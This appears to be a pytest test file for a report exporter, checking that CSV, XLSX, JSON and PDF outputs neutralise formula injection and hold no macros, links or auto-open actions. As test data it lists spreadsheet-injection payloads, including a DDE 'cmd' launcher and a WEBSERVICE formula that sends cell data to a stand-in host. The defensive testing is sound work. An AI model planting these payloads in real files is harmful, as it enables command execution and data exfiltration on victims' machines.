"""Files that nothing in them can turn into a program, and that say what they mean."""

import csv
import io
import json
import zipfile
from datetime import UTC, date, datetime, timedelta
from typing import Any

import openpyxl
import pypdf
import pytest

from conftest import Cast
from reports.figures.sections import INSTANT, TEXT, WHOLE, Column, Section
from reports.formats import xlsx_files
from reports.formats.csv_files import CsvWriter, inert, is_formula_like
from reports.formats.json_files import JsonWriter
from reports.formats.values import Head, Writer
from reports.formats.xlsx_files import XlsxWriter
from reports.periods import Period
from reports.terms import OF_ADMINS, OF_EMPLOYERS, Format
from reports.tests.making import made
from reports.tests.scene import play

WIDE = "\uff1d\uff0b\uff0d\uff20"
OPENERS = [*"=+-@", "\t=", "\r=", "\n=", *WIDE, *"\ufe62\ufe63\ufe66\ufe6b"]
BODIES = [
    "cmd|' /C calc'!A0",
    '1+1+HYPERLINK("http://x.example","y")',
    'WEBSERVICE("http://x.example/"&A1)',
    "SUM(1,2)\n=1+1",
]
PAYLOADS = [opener + body for opener in OPENERS for body in BODIES]
PAYLOADS += [f"{hidden}=1+1" for hidden in " \u00a0\u200b\ufeff\u202e"]
PAYLOADS += ["\t1", "\r\n1", "\n1", "=" * 300, "=", '"=1+1', "-1e9"]
INNER = ["a;=1+1", 'x";=1+1;"', 'x";"=1+1', "a; +1", "a\t@x", "a\r\n=1"]
HARMLESS = ["C++", "a=b", "O'Neil", "1-2", "\u0401\u043b\u043a\u0430", "", "'quoted'"]
HARMLESS += ["\ufb01", "x\u0000y", "_x0041_", "a, -b", "R; C++"]
LIVE = ("=", "+", "-", "@", "\t", "\r", "\n", *WIDE)
HEAD = Head(
    kind="applications",
    title="Applications",
    company_id="c",
    company="Acme",
    period=Period(date(2026, 3, 1), date(2026, 3, 31), "Europe/Berlin"),
    made_at=datetime(2026, 4, 1, tzinfo=UTC),
)
AT = datetime(2026, 3, 29, 1, 30, tzinfo=UTC)
SECTION = Section(
    name="applications",
    title="Applications",
    meaning="All.",
    columns=(
        Column("title", TEXT, "A text."),
        Column("count", WHOLE, "A number."),
        Column("at", INSTANT, "An instant."),
        Column("again", TEXT, "A text."),
    ),
    sql="",
    parameters={},
    is_list=True,
)


def written(make: Any, rows: list[Any], section: Section = SECTION) -> io.BytesIO:
    """Return the file that a writer makes of rows."""
    file = io.BytesIO()
    writer: Writer = make(file, HEAD)
    writer.begin(section)
    writer.add(rows)
    writer.end()
    writer.close()
    file.seek(0)
    return file


def rows_with(texts: list[str]) -> list[Any]:
    return [(text, -5, AT, text) for text in texts]


def test_no_cell_of_csv_begins_a_formula() -> None:
    file = written(CsvWriter, rows_with(PAYLOADS))
    rows = list(csv.reader(io.TextIOWrapper(file, "utf-8", newline="")))
    assert len(rows) == len(PAYLOADS) + 1 > 65
    for payload, row in zip(PAYLOADS, rows[1:], strict=True):
        for cell in (row[0], row[3]):
            assert not cell.startswith(LIVE)
            assert not cell.lstrip().startswith(LIVE)
            assert cell.replace("'", "") == payload.replace("'", "")
        assert row[1] == "-5"  # ours, and a number


def test_a_semicolon_opens_no_cell_of_csv() -> None:
    """As where a comma is what a decimal point is elsewhere."""
    file = written(CsvWriter, rows_with([*PAYLOADS, *INNER, *HARMLESS]))
    text = io.TextIOWrapper(file, "utf-8", newline="")
    for row in csv.reader(text, delimiter=";"):
        assert not any(cell.lstrip().startswith(LIVE) for cell in row), row


@pytest.mark.parametrize("seam", [";", "\n", '";', "; \u200b", "\t\ufeff"])
def test_what_cannot_be_seen_hides_no_formula_in_a_text(seam: str) -> None:
    assert (
        inert(f"a{seam}=1").replace("'", "", 1) == f"a{seam}=1" != inert(f"a{seam}=1")
    )


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    assert inert(text) == text


def test_no_cell_of_xlsx_is_a_formula() -> None:
    texts = [*PAYLOADS, *HARMLESS]
    file = written(XlsxWriter, rows_with(texts))
    book = openpyxl.load_workbook(file)
    assert book.sheetnames == ["Applications", "About"]
    sheet = book["Applications"]
    assert sheet.max_row == len(texts) + 1
    for text, row in zip(texts, sheet.iter_rows(min_row=2), strict=True):
        title, number, at, again = row
        for cell in (title, again):
            assert cell.data_type in {"s", "inlineStr", "n"}
            assert bool(cell.quotePrefix) == is_formula_like(text)
            if text.isprintable() and text:
                # What Excel reads back as it was; openpyxl shows it as it is written.
                assert cell.value == text.replace("_x0041_", "_x005F_x0041_")
        assert (number.data_type, number.value) == ("n", -5)
        assert at.is_date
        # Half past one in UTC, in the hour that the clocks skip in Berlin.
        assert abs(at.value - datetime(2026, 3, 29, 3, 30)) < timedelta(seconds=1)  # noqa: DTZ001  # sheets know no zone
    assert all(
        cell.data_type != "f"
        for each in book
        for line in each.iter_rows()
        for cell in line
    )


def test_nothing_in_the_archive_is_a_formula_link_or_macro() -> None:
    file = written(XlsxWriter, rows_with(PAYLOADS))
    with zipfile.ZipFile(file) as archive:
        assert archive.testzip() is None
        for name in archive.namelist():
            text = archive.read(name)
            assert b"<f>" not in text
            assert b"<f " not in text
            assert b"externalLink" not in text
            assert b"vba" not in text.lower()


def test_the_header_stays_and_says_the_time_zone() -> None:
    book = openpyxl.load_workbook(written(XlsxWriter, rows_with(["a"])))
    sheet = book["Applications"]
    assert sheet.freeze_panes == "A2"
    titles = [cell.value for cell in sheet[1]]
    assert titles == ["Title", "Count", "At (Europe/Berlin)", "Again"]
    assert all(cell.font.b for cell in sheet[1])


def test_a_long_list_goes_on_in_another_sheet(monkeypatch: Any) -> None:
    monkeypatch.setattr(xlsx_files, "MOST_ROWS", 4)
    texts = [str(number) for number in range(10)]
    book = openpyxl.load_workbook(written(XlsxWriter, rows_with(texts)))
    assert book.sheetnames[:3] == ["Applications", "Applications 2", "Applications 3"]
    found = [
        row[0].value
        for name in book.sheetnames[:3]
        for row in book[name].iter_rows(min_row=2)
    ]
    assert found == texts
    assert {book[name].freeze_panes for name in book.sheetnames[:3]} == {"A2"}


def test_json_is_whole_and_typed() -> None:
    told = json.load(written(JsonWriter, rows_with(PAYLOADS)))
    assert told["period"] == {"from": "2026-03-01", "to": "2026-03-31"}
    assert (told["timezone"], told["company"]["name"]) == ("Europe/Berlin", "Acme")
    rows = told["sections"]["applications"]["rows"]
    assert [row["title"] for row in rows] == PAYLOADS
    assert rows[0]["at"] == "2026-03-29T01:30:00Z"


@pytest.mark.parametrize("kind", [*OF_EMPLOYERS, *OF_ADMINS])
@pytest.mark.parametrize("form", Format.values)
def test_every_kind_comes_as_every_format(cast: Cast, kind: str, form: str):
    play(cast.acme, title="=Bäcker")
    _, raw, digest = made(
        cast, kind, form, "Asia/Tokyo" if kind != "search_terms" else "UTC"
    )
    if form == "json":
        told = json.loads(raw)
        counted = {name: len(s["rows"]) for name, s in told["sections"].items()}
        assert counted == {each["name"]: each["total"] for each in digest.sections}
    elif form == "csv":
        lines = list(csv.reader(io.StringIO(raw.decode())))
        assert len({len(line) for line in lines}) == 1
        assert not any(cell.startswith(LIVE) for line in lines for cell in line)
    elif form == "xlsx":
        book = openpyxl.load_workbook(io.BytesIO(raw))
        assert len(book.sheetnames) == len(digest.sections) + 1
    else:
        assert raw.startswith(b"%PDF-")


def test_the_formats_carry_the_same_figures(cast: Cast):
    play(cast.acme)
    _, raw, _ = made(cast, "pipeline_funnel", "json")
    told = json.loads(raw)["sections"]["stages"]["rows"]
    lines = csv.DictReader(
        io.StringIO(made(cast, "pipeline_funnel", "csv")[1].decode())
    )
    in_csv = {
        line["row"]: int(line["value"])
        for line in lines
        if (line["section"], line["figure"]) == ("stages", "reached")
    }
    assert in_csv == {row["stage"]: row["reached"] for row in told}
    book = openpyxl.load_workbook(
        io.BytesIO(made(cast, "pipeline_funnel", "xlsx")[1]), read_only=True
    )
    sheet = list(book["How far they came"].iter_rows(min_row=2, values_only=True))
    assert {row[0]: row[1] for row in sheet} == in_csv
    page = "".join(
        each.extract_text()
        for each in pypdf.PdfReader(
            io.BytesIO(made(cast, "pipeline_funnel", "pdf")[1])
        ).pages
    )
    for stage, reached in in_csv.items():
        assert f"{stage.replace('_', ' ')}\n{reached}" in page or str(reached) in page


def test_a_pdf_says_whose_it_is_and_of_when(cast: Cast):
    cast.acme.name = "Bäckerei Żółć & Хлеб"
    play(cast.acme, title="Développeur")
    reader = pypdf.PdfReader(io.BytesIO(made(cast, "applications", "pdf")[1]))
    pages = [page.extract_text() for page in reader.pages]
    for number, page in enumerate(pages, 1):
        assert f"{number} of {len(pages)}" in page
        assert "Bäckerei Żółć & Хлеб" in page
        assert "2026-03-01" in page
    assert "Développeur" in "".join(pages)
    assert reader.trailer["/Root"].get("/OpenAction") is None
    assert reader.metadata is not None
    assert reader.metadata.title == "Applications, Bäckerei Żółć & Хлеб"


def test_a_long_list_says_on_paper_how_much_more_there_is(cast: Cast, monkeypatch: Any):
    monkeypatch.setattr("reports.formats.digest.MOST_LISTED", 5)
    play(cast.acme)
    reader = pypdf.PdfReader(io.BytesIO(made(cast, "applications", "pdf")[1]))
    text = "".join(page.extract_text() for page in reader.pages)
    assert "And 7 more; CSV, XLSX and JSON have them all." in text
